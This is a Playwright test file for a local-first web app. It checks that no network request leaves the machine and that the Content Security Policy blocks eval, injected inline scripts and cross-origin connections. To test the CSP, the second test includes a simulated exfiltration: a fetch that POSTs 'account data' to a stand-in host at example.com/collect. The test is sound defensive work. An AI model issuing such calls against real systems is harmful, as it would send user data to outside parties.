import { expect, test } from '@playwright/test';
import {
  collectRequests,
  createProject,
  exportOpenProject,
  gotoApp,
  importProjectFile,
  isLocalUrl,
  openView,
  waitReady,
  waitSaved,
} from './helpers';

// Account data never leaves the machine: record every request while using the app.
test('no request leaves the machine while using every view', async ({ page }) => {
  const reqs = collectRequests(page);
  // Any CSP refusal (an eval, an inline script, a foreign fetch in some view) shows up here.
  const cspErrors: string[] = [];
  page.on('console', (m) => /Content Security Policy/i.test(m.text()) && cspErrors.push(m.text()));
  await gotoApp(page, { lang: 'en' });
  const id = await createProject(page, { name: 'Privacy', template: 'demo' });
  for (const v of ['journey', 'health', 'ctas', 'fields', 'data', 'results', 'diagrams'] as const)
    await openView(page, v);
  await waitSaved(page);
  // Export and import a project too: files go through the browser only.
  const text = await exportOpenProject(page);
  await importProjectFile(page, { name: 'privacy.waymark.json', content: text });
  await page.waitForURL((u) => !u.hash.includes(id));
  await waitSaved(page);
  expect(reqs.length).toBeGreaterThan(0);
  expect(reqs.filter((u) => !isLocalUrl(u))).toEqual([]);
  expect(cspErrors).toEqual([]);
});

test('the Content-Security-Policy forbids eval, injected scripts and connections to other origins', async ({
  page,
}) => {
  test.skip(
    process.env.E2E_DEV === '1',
    'the dev server has no CSP (Vite HMR needs inline scripts)',
  );
  const reqs = collectRequests(page);
  const response = await page.goto('/#/');
  await waitReady(page);
  for (const csp of [
    response?.headers()['content-security-policy'],
    await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content'),
  ]) {
    expect(csp).toContain("connect-src 'self'");
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("default-src 'self'");
    expect(csp).not.toContain('unsafe-eval');
  }
  // An injected inline script does not run, and the browser reports the violation.
  const violations = page.evaluate(
    () =>
      new Promise<string>((resolve) =>
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), {
          once: true,
        }),
      ),
  );
  await page.addScriptTag({ content: 'window.__injected = true;' }).catch(() => undefined);
  expect(await violations).toMatch(/^script-src/);
  expect(
    await page.evaluate(() => (window as unknown as { __injected?: boolean }).__injected),
  ).toBeUndefined();
  // A connection to another origin is refused before it leaves the page.
  const fetched = await page.evaluate(async () => {
    try {
      await fetch('https://example.com/collect', {
        method: 'POST',
        body: 'account data',
        mode: 'no-cors',
      });
      return 'sent';
    } catch (e) {
      return (e as Error).name;
    }
  });
  expect(fetched).toBe('TypeError');
  expect(reqs.filter((u) => !isLocalUrl(u))).toEqual([]);
});
